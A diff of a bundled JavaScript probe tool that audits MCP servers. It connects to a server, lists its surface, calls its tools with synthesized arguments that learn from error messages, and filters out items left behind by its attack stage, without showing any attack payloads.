+const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+class SessionContext {
+    options;
+    link;
+    client;
+    recorder;
+    result;
+    /** lines the server wrote on stdout that were not JSON */
+    nonJson;
+    onAbort = () => void this.shutdown(500);
+    constructor(options) {
+        this.options = options;
+        const { logger } = options;
+        // Every answer's text is scanned as it arrives; only what was found is kept (bounded).
+        const textScanner = new ResultTextScanner(options.canaries ? { canaries: options.canaries } : {});
+        this.recorder = new CallRecorder(textScanner, options.settle ?? (() => sleep(SETTLE_MS)), (call) => this.afterCall(call));
+        const transport = options.transport({
+            onOversized: (bytes) => {
+                if (!this.recorder.noteOversized(bytes))
+                    logger.warn(`the server sent a message of ${bytes} bytes; it was dropped (cap ${probe_transport/* MAX_MESSAGE_BYTES */.fv} bytes)`);
+            }
+        });
+        this.recorder.attach(transport);
+        this.link = new ServerLink(transport);
+        const trapped = trappedClient(options, transport, () => this.recorder.current);
+        this.client = trapped.client;
+        this.nonJson = trapped.nonJson;
+        this.result = {
+            serverInfo: null,
+            listing: { tools: [], resources: [], resourceTemplates: [], prompts: [] },
+            relisting: null,
+            calls: this.recorder.calls,
+            textHits: textScanner.hits,
+            gaps: [],
+            shutdownAt: 0,
+            stderrTail: '',
+            clientRequests: trapped.clientRequests
+        };
+        // The transport hook the client calls with the version it negotiated (one it supports, so no free text).
+        const passVersion = transport.setProtocolVersion?.bind(transport);
+        transport.setProtocolVersion = (version) => {
+            passVersion?.(version);
+            this.result.protocolVersion = version;
+        };
+        options.signal?.addEventListener('abort', this.onAbort, { once: true });
+    }
+    get closed() {
+        return this.link.closed;
+    }
+    async shutdown(graceMs) {
+        this.result.shutdownAt = this.result.shutdownAt || Date.now();
+        await this.link.shutdown(this.client, graceMs);
+        this.result.stderrTail = this.link.stderrTail;
+    }
+    /** Once the session was aborted: the server shut down, and what was done so far handed back. */
+    async checkAborted() {
+        if (!this.options.signal?.aborted)
+            return;
+        await this.shutdown(500);
+        throw new ProbeAborted(this.result);
+    }
+    /** The session's end, however it ended: no listener left, nothing of the server left running. */
+    async dispose() {
+        this.options.signal?.removeEventListener('abort', this.onAbort);
+        await this.link.stopNow();
+    }
+    async afterCall(call) {
+        await this.checkAborted();
+        if (this.closed)
+            throw new errors/* ServerProtocolError */.Gs(`the server exited during ${call.kind} ${call.name}`);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/probe/stages/connect.ts
+
+
+
+
+// The session's first stage: initialize, raced against the server's exit. A server that exits first,
+// does not answer in time or answers with an error stops the audit with the last of its stderr; one that
+// answers is asked for its info and instructions.
+const connect_sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+/** Initializes the session; returns when initialize was answered (epoch ms). */
+async function connect(session) {
+    const { options, link, client, result } = session;
+    const connecting = client.connect(link.transport, { timeout: options.initializeTimeoutMs });
+    try {
+        await Promise.race([connecting, link.closedEarly]);
+    }
+    catch (error) {
+        const exitedEarly = link.closed;
+        await connect_sleep(100); // let stderr drain
+        const exitCode = link.transport.exitCode;
+        await session.shutdown(500);
+        if (options.signal?.aborted)
+            throw new ProbeAborted(result);
+        const why = exitedEarly
+            ? 'the server exited before answering initialize'
+            : error instanceof types/* McpError */.Nh && error.code === types/* ErrorCode */.O4.RequestTimeout
+                ? `the server did not answer initialize within ${Math.round(options.initializeTimeoutMs / 1000)}s`
+                : `initialize failed: ${describeError(error)}`;
+        const garbage = session.nonJson.lines > 0 ? ` (it wrote ${session.nonJson.lines} non-JSON line(s) on stdout)` : '';
+        throw new errors/* ProbeStartError */.d9(why + garbage, link.stderrTail, exitCode);
+    }
+    const lines = session.nonJson.lines;
+    if (lines > 0)
+        options.logger.warn(`the server wrote ${lines} non-JSON line(s) on stdout; they were ignored`);
+    const initializedAt = Date.now();
+    const version = client.getServerVersion();
+    result.serverInfo = version
+        ? { name: String(version.name), version: String(version.version), ...(version.title ? { title: String(version.title) } : {}) }
+        : null;
+    const instructions = client.getInstructions();
+    if (instructions)
+        result.instructions = instructions;
+    return initializedAt;
 }
 
 ;// CONCATENATED MODULE: ./src/probe/error-lessons.ts
@@ -1350,6 +2257,164 @@ function learnFrom(errorText) {
     if (/nothing to commit|nothing added|empty commit|is empty/i.test(text))
         lesson.empty = true;
     return lesson;
+}
+
+// EXTERNAL MODULE: ./src/sandbox/replies/reply-lesson.ts
+var reply_lesson = __webpack_require__(3217);
+;// CONCATENATED MODULE: ./src/probe/reply-lessons.ts
+
+const KEY = /^[A-Za-z_$][\w$-]{0,63}$/;
+const TYPES = {
+    string: 'string',
+    str: 'string',
+    number: 'number',
+    integer: 'number',
+    int: 'number',
+    float: 'number',
+    boolean: 'boolean',
+    bool: 'boolean',
+    array: 'array',
+    list: 'array',
+    object: 'object',
+    dictionary: 'object',
+    dict: 'object',
+    record: 'object'
+};
+const ARRAY_METHODS = /^(map|filter|forEach|find|findIndex|some|every|reduce|slice|join|flatMap|includes|indexOf|sort|at|entries|length)$/;
+const STRING_METHODS = /^(toLowerCase|toUpperCase|trim|split|replace|replaceAll|startsWith|endsWith|substring|substr|match|padStart|charAt|localeCompare|normalize)$/;
+const segmentOf = (raw) => {
+    const text = raw.trim().replace(/^["']|["']$/g, '');
+    if (/^\d{1,4}$/.test(text))
+        return Number(text);
+    return KEY.test(text) ? text : null;
+};
+function replyLessonFrom(errorText) {
+    const text = errorText.slice(0, 8_000);
+    const fields = [];
+    const reads = new Set();
+    const names = {};
+    let root;
+    const addField = (path, expected) => {
+        if (fields.length >= reply_lesson/* MAX_LESSON_FIELDS */.gi)
+            return;
+        if (path.length === 0) {
+            if (expected === 'array' || expected === 'object')
+                root = expected;
+            return;
+        }
+        if (path.length > 12 || fields.some((field) => field.path.join('.') === path.join('.')))
+            return;
+        fields.push({ path, ...(expected ? { expected } : {}) });
+    };
+    // zod (3 and 4) and other JSON issue lists: "path": ["data", 0, "name"] … "expected": "string"
+    for (const match of text.matchAll(/"path"\s*:\s*\[([^\]]{0,400})\]/g)) {
+        const segments = (match[1] ?? '').split(',').filter((part) => part.trim() !== '');
+        const path = segments.map(segmentOf);
+        if (path.some((segment) => segment === null))
+            continue;
+        const start = match.index ?? 0;
+        const around = text.slice(Math.max(0, text.lastIndexOf('{', start)), text.indexOf('}', start) + 1 || start + 300);
+        const expected = /"expected"\s*:\s*"(\w+)"/.exec(around)?.[1];
+        addField(path, expected ? TYPES[expected.toLowerCase()] : undefined);
+    }
+    // zod's text form: "Expected array, received object" with no path is about the top
+    if (fields.length === 0 && root === undefined) {
+        const top = /^\s*(?:Error:\s*)?(?:Invalid input: )?expected (array|object), received (\w+)/im.exec(text);
+        if (top)
+            root = top[1];
+    }
+    // zod's text form: `status: Invalid input: expected number, received string` (a tool's structured output, an SDK's parse)
+    for (const match of text.matchAll(/(?:^|[\s,;(])([\w$-]{1,64}(?:\.[\w$-]{1,64}){0,11}): (?:Invalid input: )?[Ee]xpected (string|number|boolean|array|object), received (\w+)/g)) {
+        const path = (match[1] ?? '').split('.').map(segmentOf);
+        if (path.some((segment) => segment === null))
+            continue;
+        addField(path, TYPES[(match[2] ?? '').toLowerCase()]);
+    }
+    // pydantic: a dotted location on its own line, then what is wrong with it
+    for (const match of text.matchAll(/^\s*([\w$-]+(?:\.[\w$-]+){0,11})\s*\n\s*(Field required|Input should be a valid (\w+))/gm)) {
+        const path = (match[1] ?? '').split('.').map(segmentOf);
+        if (path.some((segment) => segment === null))
+            continue;
+        addField(path, match[3] ? TYPES[match[3].toLowerCase()] : undefined);
+    }
+    // ajv: `/data must have required property 'name'` (instancePath, then the property)
+    for (const match of text.matchAll(/(?:(\/?[\w$/-]*)\s+)?must have required property '([\w$-]{1,64})'/g)) {
+        const parents = (match[1] ?? '').split('/').filter(Boolean).map(segmentOf);
+        const key = segmentOf(match[2] ?? '');
+        if (key === null || parents.some((segment) => segment === null))
+            continue;
+        addField([...parents, key], undefined);
+    }
+    // hand-written checks: missing field "name", 'name' is required, required property `name`
+    for (const match of text.matchAll(/(?:missing (?:required )?(?:field|property|key|attribute)s?:?|required (?:field|property|key|attribute)|expected (?:field|property|key)) ['"`]?([\w$-]{1,64})['"`]?|['"`]([\w$-]{1,64})['"`] is (?:a )?required/gi)) {
+        const key = segmentOf(match[1] ?? match[2] ?? '');
+        if (typeof key === 'string' && !fields.some((field) => field.path.at(-1) === key))
+            addField([key], undefined);
+    }
+    // V8 and others: a property read from undefined or null
+    for (const match of text.matchAll(/Cannot read propert(?:y|ies) of (?:undefined|null) \(reading '([^']{1,64})'\)|Cannot read property '([^']{1,64})' of (?:undefined|null)|Cannot destructure property '([^']{1,64})'|'NoneType' object has no attribute '([^']{1,64})'|KeyError: '([^']{1,64})'/g)) {
+        const key = match.slice(1).find((group) => group !== undefined) ?? '';
+        if (KEY.test(key) && reads.size < reply_lesson/* MAX_LESSON_READS */.u0)
+            reads.add(key);
+    }
+    // a method of a list or a string called on something else: `data.items.map is not a function`
+    for (const match of text.matchAll(/\b([\w$]+(?:\??\.[\w$]+){0,8})\??\.([\w$]+) is not a function/g)) {
+        const owner = (match[1] ?? '').split(/\??\./);
+        const method = match[2] ?? '';
+        const type = ARRAY_METHODS.test(method) ? 'array' : STRING_METHODS.test(method) ? 'string' : undefined;
+        if (!type)
+            continue;
+        if (owner.length === 1) {
+            if (type === 'array')
+                root = 'array';
+            continue;
+        }
+        addField([owner.at(-1)], type);
+        // the same name is that type wherever the API's answers carry it (a GraphQL field deep in any query)
+        if (KEY.test(owner.at(-1)))
+            names[owner.at(-1)] = type;
+    }
+    for (const match of text.matchAll(/\b([\w$]+(?:\.[\w$]+){0,8}) is not iterable/g)) {
+        const owner = (match[1] ?? '').split('.');
+        if (owner[0] === 'undefined' || owner[0] === 'null')
+            continue;
+        if (owner.length === 1)
+            root = 'array';
+        else {
+            addField([owner.at(-1)], 'array');
+            if (KEY.test(owner.at(-1)))
+                names[owner.at(-1)] = 'array';
+        }
+    }
+    if (/list indices must be integers or slices, not str/.test(text))
+        root = 'object';
+    if (fields.length === 0 && reads.size === 0 && root === undefined)
+        return null;
+    return { ...(root ? { root } : {}), fields, reads: [...reads], ...(Object.keys(names).length > 0 ? { names } : {}) };
+}
+/** The server-wide names with another error's added; null when it added none. */
+function mergeNames(known, part) {
+    const merged = { ...known };
+    for (const [name, type] of Object.entries(part.names ?? {}))
+        if (merged[name] !== type && (name in merged || Object.keys(merged).length < reply_lesson/* MAX_LESSON_NAMES */.LH))
+            merged[name] = type;
+    return JSON.stringify(merged) === JSON.stringify(known) ? null : merged;
+}
+/** The tool's lesson with another error's added; null when the error taught nothing new. */
+function mergeLesson(tool, lesson, part) {
+    const fields = [...(lesson?.fields ?? [])];
+    for (const field of part.fields) {
+        const key = field.path.join('.');
+        const index = fields.findIndex((entry) => entry.path.join('.') === key);
+        if (index < 0)
+            fields.push(field);
+        else if (field.expected && fields[index]?.expected !== field.expected)
+            fields[index] = field;
+    }
+    const reads = [...new Set([...(lesson?.reads ?? []), ...part.reads])].slice(0, reply_lesson/* MAX_LESSON_READS */.u0);
+    const root = part.root ?? lesson?.root;
+    const merged = { tool, ...(root ? { root } : {}), fields: fields.slice(0, reply_lesson/* MAX_LESSON_FIELDS */.gi), reads };
+    return JSON.stringify(merged) === JSON.stringify(lesson ?? null) ? null : merged;
 }
 
 ;// CONCATENATED MODULE: ./src/probe/steered-calls.ts
@@ -1446,7 +2511,7 @@ function chooseType(schema, hint, variant) {
     const nonNull = types.filter((t) => t !== 'null');
     if (nonNull.length === 0)
         return 'null';
-    const kind = hintKind(hint);
+    const kind = (0,key_hints/* hintKind */.U)(hint);
     if (kind !== undefined && NUMBER_HINTS.has(kind)) {
         const numeric = nonNull.find((t) => t === 'integer' || t === 'number');
         if (numeric)
@@ -1703,7 +2768,7 @@ function isSafeString(value, hint) {
     const email = /^[^@\s]+@([^@\s]+)$/.exec(text);
     if (email)
         return isAllowedHost(email[1]);
-    const kind = hintKind(hint);
+    const kind = (0,key_hints/* hintKind */.U)(hint);
     if ((kind === 'host' || kind === 'url') && /^[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)+\.?(:\d+)?$/.test(text)) {
         return isAllowedHost(text.replace(/:\d+$/, ''));
     }
@@ -2114,7 +3179,7 @@ function pickChar(ranges, negated) {
 
 
 
-const MAX_DEPTH = 6;
+const generate_MAX_DEPTH = 6;
 const MAX_NODES = 2000;
 const MAX_ARRAY_ITEMS = 20;
 function generate(context, rawSchema, hint, depth, variant) {
@@ -2128,7 +3193,7 @@ function generate(context, rawSchema, hint, depth, variant) {
     if (schema === true)
         return hintString(hint, variant) ?? PLAIN_TEXT;
     const type = chooseType(schema, hint, variant);
-    if (depth > MAX_DEPTH || context.nodes > MAX_NODES) {
+    if (depth > generate_MAX_DEPTH || context.nodes > MAX_NODES) {
         context.capped = true;
         return minimalValue(type);
     }
@@ -2208,7 +3273,7 @@ function generateArray(context, schema, hint, depth, variant) {
     const tuple = Array.isArray(own(schema, 'prefixItems')) ? own(schema, 'prefixItems') : Array.isArray(items) ? items : [];
     const rest = Array.isArray(items) ? (own(schema, 'additionalItems') ?? true) : (items ?? true);
     const unique = own(schema, 'uniqueItems') === true;
-    const itemHint = hint === undefined ? undefined : singular(hint);
+    const itemHint = hint === undefined ? undefined : (0,key_hints/* singular */.cL)(hint);
     const out = [];
     const seen = new Set();
     for (let index = 0; index < Math.max(count, Math.min(tuple.length, maxItems)); index += 1) {
@@ -2311,7 +3376,7 @@ function generateNumber(schema, integer, hint, variant) {
 }
 function generateBoolean(hint, variant) {
     // "dry run" style switches make the call harmless; everything else starts from false
-    if (hintKind(hint) === 'safe-switch')
+    if ((0,key_hints/* hintKind */.U)(hint) === 'safe-switch')
         return true;
     return variant % 2 === 1;
 }
@@ -2389,12 +3454,25 @@ function synthesizePromptArguments(prompt) {
 
 
 
+
+/** Retries a tool gets because its answer showed it choked on the sink's reply and named what was missing. */
+const REPLY_RETRIES = 3;
+/** A server's own limiter refused the call (`Rate limit exceeded`: a per-second budget the audit's quick calls spend). */
+const RATE_LIMITED = /\brate[ _-]?limit(ed)?\b|too many requests/i;
+/** The pause after such a refusal, past a one-second window, and how many a session takes at most. */
+const RATE_LIMIT_PAUSE_MS = 1_100;
+const MAX_RATE_LIMIT_PAUSES = 3;
 const BEST_EFFORT_NOTE = 'best-effort arguments: the input schema is beyond what the synthesizer follows (depth, size, $ref or pattern limits)';
 /** Calls tools with synthesized arguments, each attempt learning from the errors of the ones before. */
 class ToolExerciser {
     run;
     states = new Map();
     created = [];
+    replyLessons = new Map();
+    /** the names any tool's rejection showed the server reads as one type: in every tool's lesson */
+    replyNames = {};
+    lessonInForce = 'null';
+    rateLimitPauses = 0;
     constructor(run) {
         this.run = run;
     }
@@ -2429,11 +3507,43 @@ class ToolExerciser {
             const { workspace, memory } = this.run;
             const state = this.stateOf(tool);
             const iteration = (state.attempts += 1);
-            const { arguments: synthesized } = synthesizeArgumentsNoting(tool.inputSchema, 0);
-            const args = { ...fitArguments(tool, synthesized, 0, state, workspace, this.created, memory), [param]: value };
+            const shaped = this.withCodeInput(tool);
+            const { arguments: synthesized } = synthesizeArgumentsNoting(shaped.inputSchema, 0);
+            const args = { ...fitArguments(shaped, synthesized, 0, state, workspace, this.created, memory), [param]: value };
+            this.teachSink(tool.name);
             await this.run.requests.callTool(tool.name, iteration, args, { tool, noteBefore: `steered by the code: ${param} = ${JSON.stringify(value)}` });
             return this.run.calls.at(-1)?.id;
         });
+    }
+    /** Writes the tool's reply lesson for the sink, when it differs from the one in force. */
+    teachSink(tool) {
+        if (!this.run.replyLessons)
+            return;
+        const own = this.replyLessons.get(tool)?.lesson;
+        const shared = Object.keys(this.replyNames).length > 0 ? { names: this.replyNames } : null;
+        const lesson = own || shared ? { ...(own ?? { tool, fields: [], reads: [] }), ...shared } : null;
+        const text = JSON.stringify(lesson);
+        if (text === this.lessonInForce)
+            return;
+        this.lessonInForce = text;
+        this.run.replyLessons(lesson);
+    }
+    /** True when the error named something the reply lacked that the tool's lesson did not hold yet, and retries are left. */
+    learnReply(tool, why) {
+        if (!this.run.replyLessons)
+            return false;
+        const part = replyLessonFrom(why);
+        const known = this.replyLessons.get(tool);
+        if (!part || (known?.retries ?? 0) >= REPLY_RETRIES)
+            return false;
+        const names = mergeNames(this.replyNames, part);
+        if (names)
+            this.replyNames = names;
+        const merged = mergeLesson(tool, known?.lesson, part);
+        if (!merged && !names)
+            return false;
+        this.replyLessons.set(tool, { lesson: merged ?? known?.lesson ?? { tool, fields: [], reads: [] }, retries: (known?.retries ?? 0) + 1 });
+        return true;
     }
     stateOf(tool) {
         let state = this.states.get(tool.name);
@@ -2441,19 +3551,42 @@ class ToolExerciser {
             this.states.set(tool.name, (state = { attempts: 0, ok: 0, final: 0, lessons: [] }));
         return state;
     }
+    /**
+     * The tool with the schema its handler's code parses its arguments with, when its declared one names no
+     * parameter (a converter that no longer reads the code's schemas lists `{}`): its calls then get past that parse.
+     */
+    withCodeInput(tool) {
+        const code = this.run.codeInputs?.[tool.name];
+        const declared = tool.inputSchema?.properties;
+        if (typeof code !== 'object' || code === null || (typeof declared === 'object' && declared !== null && Object.keys(declared).length > 0))
+            return tool;
+        return { ...tool, inputSchema: code };
+    }
     async callTool(tool, state) {
         const { workspace, memory } = this.run;
         const iteration = state.attempts + 1;
         const variant = variantOf(iteration);
-        const { arguments: synthesized, bestEffort } = synthesizeArgumentsNoting(tool.inputSchema, variant);
-        const args = fitArguments(tool, synthesized, variant, state, workspace, this.created, memory);
+        const shaped = this.withCodeInput(tool);
+        const { arguments: synthesized, bestEffort } = synthesizeArgumentsNoting(shaped.inputSchema, variant);
+        const args = fitArguments(shaped, synthesized, variant, state, workspace, this.created, memory);
         state.attempts = iteration;
+        this.teachSink(tool.name);
         const answer = await this.run.requests.callTool(tool.name, iteration, args, { tool, noteBefore: bestEffort ? BEST_EFFORT_NOTE : undefined });
         const outcome = this.run.calls[this.run.calls.length - 1]?.outcome;
+        if (!answer.ok && RATE_LIMITED.test(answer.why) && this.rateLimitPauses < MAX_RATE_LIMIT_PAUSES) {
+            // the next call waits out the server's own window, a few times a session at most
+            this.rateLimitPauses += 1;
+            await new Promise((resolve) => setTimeout(resolve, RATE_LIMIT_PAUSE_MS));
+        }
         if (answer.ok) {
             state.ok += 1;
             memory.remember(answer.response);
             this.created.push(...createdPaths(tool, args, workspace));
+        }
+        else if (this.learnReply(tool.name, answer.why)) {
+            // the tool choked on the sink's reply and said on what: the next call's reply has it (a few times at most)
+            if (outcome === 'error-result')
+                state.lessons = [...state.lessons, learnFrom(answer.why)].slice(-3);
         }
         else if (outcome === 'error-result' || (outcome === 'protocol-error' && /^-32602:/.test(answer.why))) {
             state.lessons = [...state.lessons, learnFrom(answer.why)].slice(-3);
@@ -2464,6 +3597,159 @@ class ToolExerciser {
             state.final += 1;
         }
     }
+}
+
+;// CONCATENATED MODULE: ./src/probe/run-scenario.ts
+/** The scenario's steps, in order; returns the items they reached (synthesis leaves those alone). */
+async function runScenario(steps, run) {
+    const reached = new Set();
+    const iterations = new Map();
+    for (const step of steps) {
+        const key = `${step.kind}\0${step.target}`;
+        const iteration = (iterations.get(key) ?? 0) + 1;
+        iterations.set(key, iteration);
+        const args = step.arguments ?? {};
+        const options = { step: step.name };
+        const answer = step.kind === 'tool'
+            ? await run.requests.callTool(step.target, iteration, args, { ...options, tool: run.tools.find((tool) => tool.name === step.target) })
+            : step.kind === 'resource'
+                ? await run.requests.readResource(step.target, iteration, options)
+                : await run.requests.getPrompt(step.target, iteration, args, options);
+        if (answer.ok) {
+            reached.add(key);
+            run.remember(answer.response);
+        }
+        if (step.expect !== undefined && answer.ok !== (step.expect === 'ok')) {
+            const outcome = run.calls[run.calls.length - 1]?.outcome ?? 'error';
+            run.gaps.push({
+                what: `scenario step "${step.name}"`,
+                why: `expected ${step.expect}, the ${step.kind} ${answer.ok ? 'succeeded' : `ended in ${outcome}`}`
+            });
+        }
+    }
+    return reached;
+}
+
+;// CONCATENATED MODULE: ./src/probe/synthesize/uri-template.ts
+// Resource templates: an RFC 6570 URI template filled with values from the key-name hints.
+
+
+/**
+ * Expands an RFC 6570 URI template (levels 1-3: `{var}`, `{+var}`, `{#var}`, `{.var}`, `{/var}`,
+ * `{;var}`, `{?a,b}`, `{&a}`; prefix and explode modifiers accepted) with values from the key-name hints.
+ * Anything that is not a well-formed expression is kept as written.
+ */
+function instantiateUriTemplate(template) {
+    return template.replace(/\{([^{}]*)\}/g, (whole, expression) => expandExpression(expression) ?? whole);
+}
+const OPERATORS = {
+    '': { first: '', separator: ',', named: false, reserved: false },
+    '+': { first: '', separator: ',', named: false, reserved: true },
+    '#': { first: '#', separator: ',', named: false, reserved: true },
+    '.': { first: '.', separator: '.', named: false, reserved: false },
+    '/': { first: '/', separator: '/', named: false, reserved: false },
+    ';': { first: ';', separator: ';', named: true, reserved: false },
+    '?': { first: '?', separator: '&', named: true, reserved: false },
+    '&': { first: '&', separator: '&', named: true, reserved: false }
+};
+function expandExpression(expression) {
+    const operatorChar = /^[+#./;?&]/.test(expression) ? expression[0] : '';
+    const operator = OPERATORS[operatorChar];
+    if (operator === undefined)
+        return undefined;
+    const specs = expression.slice(operatorChar.length).split(',');
+    const parts = [];
+    for (const spec of specs) {
+        const match = /^((?:[A-Za-z0-9_]|%[0-9A-Fa-f]{2})(?:\.?(?:[A-Za-z0-9_]|%[0-9A-Fa-f]{2}))*)(?::([1-9]\d{0,3})|\*)?$/.exec(spec);
+        if (!match)
+            return undefined;
+        const name = match[1];
+        let value = templateValue(name);
+        if (match[2] !== undefined)
+            value = [...value].slice(0, Number(match[2])).join('');
+        const encoded = encodeTemplateValue(value, operator.reserved);
+        parts.push(operator.named ? (encoded === '' && operatorChar === ';' ? name : `${name}=${encoded}`) : encoded);
+    }
+    return operator.first + parts.join(operator.separator);
+}
+function templateValue(name) {
+    const kind = (0,key_hints/* hintKind */.U)(safeDecode(name));
+    if (kind === 'path' || kind === 'filename')
+        return 'notes.txt';
+    if (kind === undefined || kind === 'text')
+        return 'hello';
+    return hintString(name, 0) ?? 'hello';
+}
+function encodeTemplateValue(value, reserved) {
+    const allowed = reserved ? /[A-Za-z0-9\-._~:/?#[\]@!$&'()*+,;=]/ : /[A-Za-z0-9\-._~]/;
+    let out = '';
+    for (const char of value) {
+        out += allowed.test(char) ? char : [...Buffer.from(char, 'utf8')].map((byte) => `%${byte.toString(16).toUpperCase().padStart(2, '0')}`).join('');
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/probe/stages/exercise.ts
+
+
+
+
+
+async function exercise(session, requests, budget, initializedAt) {
+    const { options, result } = session;
+    const workspace = options.workspace ?? null;
+    const memory = new ResultMemory(workspace?.root ?? null);
+    const { callsPerTool, maxAttempts } = budget;
+    const tools = new ToolExerciser({
+        requests,
+        workspace,
+        memory,
+        calls: result.calls,
+        callsPerTool,
+        maxAttempts,
+        ...(options.callsCap ? { callsCap: options.callsCap } : {}),
+        ...(options.replyLessons ? { replyLessons: options.replyLessons } : {}),
+        ...(options.codeInputs ? { codeInputs: options.codeInputs } : {})
+    });
+    const scenario = options.scenario ?? null;
+    const reached = scenario
+        ? await runScenario(scenario.steps, {
+            requests,
+            tools: result.listing.tools,
+            remember: (response) => memory.remember(response),
+            calls: result.calls,
+            gaps: result.gaps
+        })
+        : new Set();
+    // callsPerTool 0 (a remote server): list only, nothing is called or read
+    const synthesize = callsPerTool > 0 && (scenario?.synthesize ?? true);
+    const unreached = (kind, name) => (items) => synthesize ? items.filter((item) => !reached.has(`${kind}\0${name(item)}`)) : [];
+    const listing = {
+        tools: unreached('tool', (tool) => tool.name)(result.listing.tools),
+        resources: unreached('resource', (resource) => resource.uri)(result.listing.resources),
+        resourceTemplates: synthesize ? result.listing.resourceTemplates : [],
+        prompts: unreached('prompt', (prompt) => prompt.name)(result.listing.prompts)
+    };
+    await tools.exercise(listing.tools, async () => {
+        for (const resource of listing.resources)
+            await requests.readResource(resource.uri, 1);
+        for (const template of listing.resourceTemplates)
+            await requests.readTemplate(template.uriTemplate, instantiateUriTemplate(template.uriTemplate));
+        for (const prompt of result.listing.prompts.filter((candidate) => listing.prompts.includes(candidate))) {
+            await requests.getPrompt(prompt.name, 1, synthesizePromptArguments(prompt));
+        }
+    });
+    if (synthesize && options.staticItems && !session.closed)
+        result.steered = await tools.steer(listing.tools, await options.staticItems());
+    if (synthesize && options.holdMs && !session.closed) {
+        // A held pass: the session stays open (the server's timers run), then each tool is called again.
+        options.logger.info(`holding the session open ${Math.round(options.holdMs / 1000)} s`);
+        await session.link.closedWithin(initializedAt + options.holdMs - Date.now());
+        await session.checkAborted();
+        if (!session.closed)
+            await tools.again(listing.tools);
+    }
+    return { tools, synthesize };
 }
 
 // EXTERNAL MODULE: ./node_modules/zod/v4/classic/schemas.js + 4 modules
@@ -2598,174 +3884,86 @@ async function listSurface(client, timeoutMs, stage, gaps, logger) {
     return listing;
 }
 
-;// CONCATENATED MODULE: ./src/probe/output-schema.ts
+;// CONCATENATED MODULE: ./src/probe/stages/list.ts
+
+// The listing stage: everything the server's capabilities announce, every page, and the budget of the
+// calls that follow, which a huge surface lowers.
 /**
- * What the SDK's callTool would have thrown on: a result that does not fit the tool's own outputSchema.
- * We call tools/call directly (the SDK compiles every outputSchema with ajv while listing, and one schema
- * it cannot compile would fail the whole listing), so this bounded check notes the mismatch instead.
+ * Above this many tools + resources + templates + prompts, each item is called once and without the
+ * settle pause: 5,000 tools × 3 calls × 50 ms would take over 12 minutes. Background behaviour of one
+ * call may then be attributed to the next one.
  */
-function outputSchemaMismatch(tool, response) {
-    const schema = tool.outputSchema;
-    if (typeof schema !== 'object' || schema === null || typeof response !== 'object' || response === null)
-        return undefined;
-    const { structuredContent, isError } = response;
-    if (isError === true)
-        return undefined;
-    if (structuredContent === undefined)
-        return 'declares an outputSchema but returned no structuredContent';
-    const isObject = typeof structuredContent === 'object' && structuredContent !== null && !Array.isArray(structuredContent);
-    if (schema.type === 'object' && !isObject)
-        return 'structuredContent is not an object, as its outputSchema requires';
-    const required = Array.isArray(schema.required) ? schema.required.filter((key) => typeof key === 'string').slice(0, 100) : [];
-    const missing = isObject ? required.filter((key) => !Object.hasOwn(structuredContent, key)) : [];
-    if (missing.length > 0)
-        return `structuredContent lacks ${missing.slice(0, 5).join(', ')}, required by its outputSchema`;
-    return undefined;
+const HUGE_SURFACE_ITEMS = 500;
+/** Attempts beyond --calls a tool gets to reach its success path (retries that learn from errors). */
+const EXTRA_ATTEMPTS = 3;
+async function list(session) {
+    const { options, client, result } = session;
+    result.listing = await listSurface(client, options.timeoutMs, '', result.gaps, options.logger);
+    await session.checkAborted();
+    const { tools, resources, resourceTemplates, prompts } = result.listing;
+    const surface = tools.length + resources.length + resourceTemplates.length + prompts.length;
+    const huge = surface > HUGE_SURFACE_ITEMS;
+    const callsPerTool = huge ? Math.min(1, options.callsPerTool) : options.callsPerTool;
+    if (huge && options.callsPerTool > 1)
+        options.logger.info(`${surface} items: each is called once, without pauses between calls`);
+    session.recorder.pauses = !huge;
+    return { huge, callsPerTool, maxAttempts: huge ? 1 : callsPerTool + EXTRA_ATTEMPTS };
 }
 
-// EXTERNAL MODULE: ./src/probe/probe-transport.ts
-var probe_transport = __webpack_require__(9948);
-;// CONCATENATED MODULE: ./src/probe/synthesize/uri-template.ts
-// Resource templates: an RFC 6570 URI template filled with values from the key-name hints.
-
-
-/**
- * Expands an RFC 6570 URI template (levels 1-3: `{var}`, `{+var}`, `{#var}`, `{.var}`, `{/var}`,
- * `{;var}`, `{?a,b}`, `{&a}`; prefix and explode modifiers accepted) with values from the key-name hints.
- * Anything that is not a well-formed expression is kept as written.
- */
-function instantiateUriTemplate(template) {
-    return template.replace(/\{([^{}]*)\}/g, (whole, expression) => expandExpression(expression) ?? whole);
-}
-const OPERATORS = {
-    '': { first: '', separator: ',', named: false, reserved: false },
-    '+': { first: '', separator: ',', named: false, reserved: true },
-    '#': { first: '#', separator: ',', named: false, reserved: true },
-    '.': { first: '.', separator: '.', named: false, reserved: false },
-    '/': { first: '/', separator: '/', named: false, reserved: false },
-    ';': { first: ';', separator: ';', named: true, reserved: false },
-    '?': { first: '?', separator: '&', named: true, reserved: false },
-    '&': { first: '&', separator: '&', named: true, reserved: false }
-};
-function expandExpression(expression) {
-    const operatorChar = /^[+#./;?&]/.test(expression) ? expression[0] : '';
-    const operator = OPERATORS[operatorChar];
-    if (operator === undefined)
-        return undefined;
-    const specs = expression.slice(operatorChar.length).split(',');
-    const parts = [];
-    for (const spec of specs) {
-        const match = /^((?:[A-Za-z0-9_]|%[0-9A-Fa-f]{2})(?:\.?(?:[A-Za-z0-9_]|%[0-9A-Fa-f]{2}))*)(?::([1-9]\d{0,3})|\*)?$/.exec(spec);
-        if (!match)
-            return undefined;
-        const name = match[1];
-        let value = templateValue(name);
-        if (match[2] !== undefined)
-            value = [...value].slice(0, Number(match[2])).join('');
-        const encoded = encodeTemplateValue(value, operator.reserved);
-        parts.push(operator.named ? (encoded === '' && operatorChar === ';' ? name : `${name}=${encoded}`) : encoded);
+;// CONCATENATED MODULE: ./src/probe/attack/attack-items.ts
+// What the attack stage left on the server's surface (issue 42): a server that files what it is given
+// under the name it is given (server-everything's gzip-file-as-resource adds a resource per call) lists,
+// after the attacks, items named by the hostile values. Those are the attacks' doing, not the server's
+// surface: the re-listing leaves them out, so they are neither session changes nor read as new resources,
+// and the coverage is the exercise's. An item the first listing had is always kept.
+/** The forms of a name a value may show up in: as sent, and URI-decoded. */
+function attack_items_forms(text) {
+    try {
+        const decoded = decodeURIComponent(text);
+        return decoded === text ? [text] : [text, decoded];
     }
-    return operator.first + parts.join(operator.separator);
-}
